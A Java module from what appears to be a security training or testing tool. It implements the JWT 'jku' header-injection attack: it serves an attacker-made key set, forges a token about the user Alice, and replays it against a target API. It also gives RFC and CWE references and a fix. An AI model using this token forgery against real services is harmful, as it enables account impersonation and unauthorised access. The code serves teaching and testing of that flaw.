package dev.gatehouse.desktop.attack;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.server.jose.JwsAlgorithm;
import dev.gatehouse.server.jose.ProofKey;
import java.util.List;

/** Says in the token where the key is by which it is to be verified. */
@AutoService(Attack.class)
public final class JwtJku implements Attack {
  private static final String KID = "dave-1";
  private static final String PATH = "/keys.json";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-jku",
        "Keys from the attacker's server",
        AttackGroup.JWT,
        "The attacker puts a public key on a server of their own, writes its address into the token's header, and signs a token about Alice.",
        "A token to copy from, and a server that the API can reach.",
        "The format has a place for the address of the keys in the header, and the library fetches them from there.",
        "follow-jku",
        List.of("RFC 8725 §3.10", "RFC 7515 §4.1.2", "CWE-918"),
        "Fetch keys from the addresses that you have configured for an issuer, and from no other. Ignore, or better refuse, jku and x5u in a token.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    ProofKey own = ProofKey.make(JwsAlgorithm.ES256);
    ObjectNode keys = JsonNodeFactory.instance.objectNode();
    keys.putArray("keys").add(own.publicJwk().put("kid", KID));
    try (AttackerSite site = new AttackerSite()) {
      site.serve(PATH, "application/jwk-set+json", keys.toString());
      String address =
          target.makes(
              "Make a key pair, and publish the public key.",
              "address of the key set",
              site.origin() + PATH);
      return JwtAttack.use(target, forged(target, own, address));
    } catch (CredentialException unreadable) {
      return target.end(false, Events.GAIN);
    }
  }

  private static String forged(Target target, ProofKey own, String address)
      throws CredentialException {
    String header =
        JsonNodeFactory.instance
            .objectNode()
            .put("typ", "at+jwt")
            .put("alg", own.algorithm().text())
            .put("kid", KID)
            .put("jku", address)
            .toString();
    String payload = JwtAttack.ownToken(target).withClaim("sub", Loot.VICTIM).payload();
    return target.makes(
        "Take the payload of Dave's token, set sub to alice, put the address into the header, and sign.",
        "forged token",
        own.sign(header, payload));
  }
}
